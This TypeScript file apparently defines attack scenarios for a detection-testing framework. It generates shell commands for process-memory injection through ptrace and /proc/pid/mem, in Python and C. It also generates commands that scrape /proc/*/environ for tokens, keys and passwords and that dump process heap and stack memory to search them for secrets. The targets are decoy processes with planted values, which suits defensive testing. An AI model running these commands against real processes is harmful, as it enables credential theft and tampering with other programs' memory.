import type { Attack } from '../scenario.ts';
import { maybe, root, workFile, workFolder, write } from '../ways.ts';

const PYTHON = `import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
pid = int(sys.argv[1])
if libc.ptrace(16, pid, None, None) < 0: sys.exit(os.strerror(ctypes.get_errno()))
os.waitpid(pid, 0)
regions = [l.split()[0] for l in open(f"/proc/{pid}/maps") if l.split()[1].startswith("r-x")]
at = int(regions[0].split("-")[0], 16)
word = libc.ptrace(2, pid, at, None)
libc.ptrace(5, pid, at, word)
libc.ptrace(17, pid, None, None)`;

const C = `#include <sys/ptrace.h>
#include <sys/wait.h>
#include <stdio.h>
#include <stdlib.h>
int main(int n, char **v) {
  pid_t p = atoi(v[1]); char path[64]; unsigned long at; FILE *f;
  if (n < 2 || ptrace(PTRACE_ATTACH, p, 0, 0)) { perror("ptrace"); return 1; }
  waitpid(p, 0, 0);
  snprintf(path, sizeof path, "/proc/%d/maps", p);
  if (!(f = fopen(path, "r")) || fscanf(f, "%lx", &at) != 1) return 1;
  for (int i = 0; i < 8; i++) {
    long word = ptrace(PTRACE_PEEKTEXT, p, at + 8 * i, 0);
    ptrace(PTRACE_POKETEXT, p, at + 8 * i, word);
  }
  ptrace(PTRACE_DETACH, p, 0, 0);
  return 0;
}`;

/** Words are written into the memory of another process. */
const byPtrace: Attack = {
  name: 'process-memory-written',
  family: 'process-memory-written',
  techniques: ['T1055.008', 'T1055.009'],
  as: 'either',
  needs: ['python3', 'gcc', 'sudo'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const name = draw.word();
    const target = draw.pick([
      `sleep ${draw.int(100, 300)}`,
      `tail -f /dev/null`,
      `python3 -c 'import time; time.sleep(${draw.int(100, 300)})'`,
    ]);
    const program = draw.pick([
      { made: [write(draw, `${folder}/${name}.py`, PYTHON)], run: `python3 ${folder}/${name}.py` },
      {
        made: [write(draw, `${folder}/${name}.c`, C), `gcc -o ${folder}/${name} ${folder}/${name}.c`],
        run: `${folder}/${name}`,
      },
      {
        made: [
          write(
            draw,
            `${folder}/${name}.py`,
            'import sys\nwith open(f"/proc/{sys.argv[1]}/maps") as m: at = int(m.readline().split("-")[0], 16)\nwith open(f"/proc/{sys.argv[1]}/mem", "r+b", 0) as f:\n  f.seek(at); b = f.read(16); f.seek(at); f.write(b)',
          ),
        ],
        run: `python3 ${folder}/${name}.py`,
      },
    ]);
    return [
      `mkdir -p ${folder}`,
      `${target} &`,
      'p=$!',
      ...program.made,
      ...maybe(
        draw,
        0.5,
        draw.pick(['head -3 /proc/$p/maps', 'cat /proc/sys/kernel/yama/ptrace_scope', 'ps -p $p']),
      ),
      root(place, `${program.run} $p`),
      ...maybe(draw, 0.4, root(place, `${program.run} $p`)),
      ...maybe(draw, 0.5, 'kill $p'),
      ...maybe(draw, 0.5, `rm -rf ${folder}`),
    ];
  },
};

/** Secrets are read from environments and memory of processes. */
const read: Attack = {
  name: 'process-memory-read',
  family: 'process-memory-read',
  techniques: ['T1003.007', 'T1552', 'T1057'],
  as: 'either',
  needs: ['python3', 'sudo'],
  lines: (draw, place) => {
    const out = workFile(draw, place, '.bin');
    const secret = draw.word();
    const script = workFile(draw, place, '.py');
    const dump = `import re, sys\npid = sys.argv[1]\nwith open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem, open("${out}", "wb") as out:\n  for line in maps:\n    m = re.match(r"(\\w+)-(\\w+) rw", line)\n    if m and ("heap" in line or "stack" in line):\n      a, b = (int(x, 16) for x in m.groups())\n      mem.seek(a); out.write(mem.read(min(b - a, 1 << 20)))`;
    return [
      draw.pick([
        `TOKEN=${secret} bash -c 'while sleep 5; do :; done' &`,
        `API_KEY=${secret} sleep ${draw.int(100, 300)} &`,
        `PASSWORD=${secret} python3 -c 'import time; time.sleep(200)' &`,
      ]),
      'p=$!',
      ...draw.some(
        [
          root(
            place,
            `bash -c "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -iE 'pass|token|key' | sort -u"`,
          ),
          `for e in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $e 2>/dev/null | grep -E 'TOKEN|KEY|PASS'; done`,
          root(place, `strings /proc/$p/environ`),
          root(place, `grep -az PASS /proc/$p/environ`),
        ],
        draw.int(1, 2),
      ),
      ...maybe(
        draw,
        0.7,
        write(draw, script, dump),
        root(place, `python3 ${script} $p`),
        `strings -n 6 ${out} | grep -iE 'pass|token|key|${secret}' | head -5`,
      ),
      ...maybe(
        draw,
        0.3,
        `${root(place, `dd if=/proc/$p/mem of=${out} bs=4096 skip=$((0x$(grep -m1 rw /proc/$p/maps | cut -d- -f1)/4096)) count=${draw.int(1, 8)} status=none`)}`,
      ),
      ...maybe(draw, 0.5, 'kill $p'),
      ...maybe(draw, 0.5, `rm -f ${out} ${script}`),
    ];
  },
};

export const INJECTION: readonly Attack[] = [byPtrace, read];
